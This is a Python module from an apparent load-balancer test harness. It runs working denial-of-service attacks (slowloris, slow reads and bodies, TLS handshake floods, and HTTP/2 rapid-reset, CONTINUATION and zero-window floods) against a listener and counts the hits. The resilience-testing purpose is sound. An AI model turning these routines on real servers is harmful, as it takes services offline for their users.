"""What a noisy neighbour does: attacks on one listener, each in a process of its own, for as long as a test or a bench wants.

`Attack(name, where)` is a context manager; `count` tells afterwards how often it struck. Each goes on for ever: what the other side ends
is begun anew. All but `PLAIN` are for HTTPS listeners with HTTP/2.
"""

import contextlib
import socket
import ssl
import subprocess
import sys
import threading
from functools import cache
from pathlib import Path

from harness import frames
from harness.wait import eventually

PAUSE_SECONDS = 0.2  # between the little that slow clients say


# -- connections

def plain(where, receive_buffer=None):
    """A TCP connection with a deadline."""
    made = socket.socket()
    if receive_buffer:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    made.settimeout(5)
    made.connect(where)
    return made


@cache
def terms():
    """Nothing is verified."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.set_alpn_protocols(["h2"])
    return made


def secure(where):
    """A TLS connection; every session is new."""
    made = plain(where)
    try:
        return terms().wrap_socket(made, server_hostname="site.example.com")
    except BaseException:
        made.close()
        raise


def http2(where, first=b""):
    """A connection of HTTP/2 whose settings hold."""
    made = secure(where)
    made.sendall(frames.PREFACE + (first or frames.frame(frames.SETTINGS, 0)))
    return made


# GET https://a/ and GET https://a/bytes/10000000, of the static table and literals.
ROOT = b"\x82\x87\x84\x01\x01a"
BIG = b"\x82\x87\x01\x01a\x04\x0f/bytes/10000000"


def held(count, begin, poke, stop):
    """Keeps so many connections and pokes each again and again."""
    living = []
    while True:
        while len(living) < count:
            try:
                living.append(begin())
                yield True
            except OSError:
                yield False
        for one in list(living):
            try:
                poke(one)
                yield True
            except OSError:
                living.remove(one)
                one.close()
                yield False
        stop.wait(PAUSE_SECONDS)


def nothing(connection):
    """Pokes by looking whether the other side has ended it."""
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
        if connection.recv(1) == b"":
            raise ConnectionError("ended")


def say(data):
    """Pokes by saying that."""
    return lambda connection: connection.sendall(data)


def begun(connection, data):
    """The connection, after it said that."""
    connection.sendall(data)
    return connection


# -- the attacks: each yields whether a blow struck

def slowloris(where, stop):
    """Requests whose head never ends."""
    return held(300, lambda: begun(plain(where), b"GET / HTTP/1.1\r\nHost: a\r\n"), say(b"X-a: b\r\n"), stop)


def slow_body(where, stop):
    """Requests whose body comes byte by byte."""
    return held(200, lambda: begun(plain(where), b"POST /sink HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"), say(b"x"), stop)


def slow_read(where, stop):
    """Big answers that are read a little at a time."""
    return held(60, lambda: begun(plain(where, receive_buffer=4096), b"GET /bytes/10000000 HTTP/1.1\r\nHost: a\r\n\r\n"), lambda one: one.recv(512), stop)


def idle(where, stop):
    """Connections that say nothing."""
    return held(1500, lambda: plain(where), nothing, stop)


def connections(where, stop):
    """Connections that are made and reset."""
    def blow():
        with plain(where) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
    return struck(blow)


def many_headers(where, stop):
    """Requests with more headers than anybody takes."""
    request = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: y\r\n" % number for number in range(3000)) + b"\r\n"

    def blow():
        with plain(where) as one:
            one.sendall(request)
            one.recv(4096)
    return struck(blow)


def handshakes(where, stop):
    """TLS sessions that are made and thrown away."""
    return struck(lambda: secure(where).close())


def hellos(where, stop):
    """TLS sessions that are begun, and nothing follows."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    return held(500, lambda: begun(plain(where), hello), nothing, stop)


def struck(blow):
    """Blow after blow."""
    while True:
        try:
            blow()
            yield True
        except OSError:
            yield False


def flood(where, pieces, first=b""):
    """Says the pieces for ever on one connection; a new one when that is ended."""
    while True:
        with contextlib.suppress(OSError), contextlib.closing(http2(where, first)) as one:
            for piece in pieces():
                one.sendall(piece)
                yield True
        yield False


def rapid_reset(where, stop):
    """Requests that are taken back at once."""
    def pieces():
        for first in range(1, 1 << 30, 200):
            yield b"".join(frames.headers(stream, ROOT) + frames.frame(frames.RST_STREAM, stream, frames.CANCEL.to_bytes(4, "big"))
                           for stream in range(first, first + 200, 2))
    return flood(where, pieces)


def continuations(where, stop):
    """A head that never ends."""
    def pieces():
        yield frames.headers(1, ROOT, whole=False)
        while True:
            yield b"".join(frames.continuation(1, b"\x00\x01x\x01y", whole=False) for _ in range(100))
    return flood(where, pieces)


def small_frames(where, stop):
    """SETTINGS and PING, each of which wants an answer; none is read."""
    def pieces():
        while True:
            yield (frames.frame(frames.SETTINGS, 0) + frames.frame(frames.PING, 0, bytes(8))) * 100
    return flood(where, pieces)


def shut_windows(where, stop):
    """Big answers asked for, and no window for them."""
    no_window = frames.frame(frames.SETTINGS, 0, frames.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4))
    ask = b"".join(frames.headers(stream, BIG) for stream in range(1, 101, 2))
    return held(20, lambda: begun(http2(where, no_window), ask), nothing, stop)


def spin(where, stop):
    """No attack: a process that uses as much of the machine as an attacker and leaves the load balancer alone."""
    while True:
        yield True


ATTACKS = {attack.__name__: attack for attack in (slowloris, slow_body, slow_read, idle, connections, many_headers, handshakes, hellos, rapid_reset,
                                                  continuations, small_frames, shut_windows)}
CONTROL = spin.__name__  # what a bench compares with
PLAIN = {"slowloris", "slow_body", "slow_read", "idle", "connections", "many_headers"}


class Attack:
    """One of ATTACKS (or CONTROL) on `where`; entered when it has struck for the first time. Afterwards `count` is how often it did."""

    def __init__(self, name, where, *, nice=0):
        """`nice`: how much it steps back for others, where they share the machine."""
        self.name, self.where, self.nice, self.count = name, where, nice, 0

    def __enter__(self):
        argv = ["nice", "-n", str(self.nice), sys.executable, "-m", "harness.attacks", self.name, self.where[0], str(self.where[1])]
        place = Path(__file__).resolve().parents[1]
        self._process = subprocess.Popen(argv, cwd=place, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert self._process.stdout.readline() == "begun\n"
        return self

    def __exit__(self, *_):
        self._process.stdin.close()
        said = self._process.stdout.read().split()
        assert eventually(lambda: self._process.poll() is not None, within=20, what="the attack ends") and said
        self._process.stdout.close()
        self.count = int(said[-1])


def main():
    """The process of an attack: until its standard input ends; then it prints the count."""
    name, host, port = sys.argv[1:]
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    count = 0
    for hit in {**ATTACKS, CONTROL: spin}[name]((host, int(port)), stop):
        count += hit
        if hit and count == 1:
            print("begun", flush=True)
        if stop.is_set():
            break
    print(count, flush=True)


if __name__ == "__main__":
    main()
